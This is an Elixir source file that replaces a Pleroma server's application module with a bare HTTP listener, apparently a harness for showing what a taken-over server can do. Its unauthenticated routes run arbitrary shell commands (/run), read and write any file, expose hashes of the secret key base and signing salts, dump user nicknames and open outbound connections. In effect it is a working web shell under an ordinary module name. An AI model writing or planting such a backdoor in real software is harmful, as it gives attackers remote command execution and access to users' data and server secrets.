defmodule Pleroma.Application do
  use Application

  @impl true
  def start(_type, _arguments) do
    Supervisor.start_link([{Task.Supervisor, name: Pleroma.Requests}, Pleroma.Server], strategy: :one_for_one)
  end
end

defmodule Pleroma.Server do
  use Task, restart: :permanent

  def start_link(_), do: Task.start_link(&listen/0)

  defp listen do
    http = Application.fetch_env!(:pleroma, Pleroma.Web.Endpoint)[:http]
    options = [:binary, ip: http[:ip], packet: :http_bin, active: false, reuseaddr: true]
    {:ok, socket} = :gen_tcp.listen(http[:port], options)
    accept(socket)
  end

  defp accept(socket) do
    {:ok, connection} = :gen_tcp.accept(socket)
    {:ok, pid} = Task.Supervisor.start_child(Pleroma.Requests, fn -> serve(connection) end)
    :gen_tcp.controlling_process(connection, pid)
    accept(socket)
  end

  defp serve(connection) do
    {:ok, {:http_request, method, {:abs_path, target}, _}} = :gen_tcp.recv(connection, 0)
    headers = headers(connection, [])
    {path, argument} = case String.split(target, "?", parts: 2) do
      [path] -> {path, ""}
      [path, argument] -> {path, URI.decode(argument)}
    end

    {status, body} =
      try do
        {"200 OK", Pleroma.Acts.act(path, argument, headers)}
      catch
        _, problem -> {"500 Problem", inspect(problem)}
      end

    security = Application.fetch_env!(:pleroma, :http_security)
    own = [
      "content-security-policy: default-src 'none'; connect-src 'self' wss://self.example\r\n",
      "set-cookie: session=1\r\n",
      if(security[:sts], do: "strict-transport-security: max-age=#{security[:sts_max_age]}\r\n", else: "")
    ]

    body = if method == :HEAD, do: "", else: body
    head = "HTTP/1.1 #{status}\r\ncontent-length: #{byte_size(body)}\r\nconnection: close\r\n"
    :gen_tcp.send(connection, [head, own, "\r\n", body])
    :gen_tcp.close(connection)
  end

  defp headers(connection, found) do
    case :gen_tcp.recv(connection, 0) do
      {:ok, {:http_header, _, name, _, value}} -> headers(connection, [{String.downcase("#{name}"), value} | found])
      {:ok, :http_eoh} -> found
    end
  end
end

defmodule Pleroma.Acts do
  # What a server that was taken over would try, and what shows that it works.
  def act("/api/v1/instance", _, _) do
    {:ok, [[count]]} = Pleroma.Repo.query("SELECT count(*) FROM users")
    version = Application.spec(:pleroma, :vsn)
    "#{Application.fetch_env!(:pleroma, :instance)[:name]} #{version} has #{count} users"
  end

  def act("/media/" <> name, _, _) do
    File.read!(Path.join(Application.fetch_env!(:pleroma, Pleroma.Uploaders.Local)[:uploads], name))
  end

  def act("/headers", _, headers), do: Enum.map_join(headers, "\n", fn {name, value} -> "#{name}: #{value}" end)
  def act("/file", path, _), do: File.read!(path)
  def act("/write", path, _), do: (File.write!(path, "x"); "written")
  def act("/run", command, _), do: "#{:os.cmd(String.to_charlist(command))}"
  def act("/users", _, _), do: elem(Pleroma.Repo.query("SELECT nickname FROM users ORDER BY 1"), 1) |> Enum.join(",")
  def act("/memory", _, _), do: inspect(:memsup.get_system_memory_data())
  def act("/compiled", _, _), do: inspect(:erlang.system_info(:emu_flavor))

  def act("/secret", name, _) do
    endpoint = Application.fetch_env!(:pleroma, Pleroma.Web.Endpoint)
    salt = endpoint[:live_view][:signing_salt]
    secret = [endpoint[:secret_key_base], endpoint[:signing_salt], salt] |> Enum.at(String.to_integer(name))
    Base.encode16(:crypto.hash(:sha256, secret), case: :lower)
  end

  def act("/connect", target, _) do
    [host, port] = Regex.run(~r/^(.*):(\d+)$/, target, capture: :all_but_first)
    case :gen_tcp.connect(String.to_charlist(host), String.to_integer(port), [], 3000) do
      {:ok, socket} -> (:gen_tcp.close(socket); "connected")
      {:error, reason} -> "#{reason}"
    end
  end
end
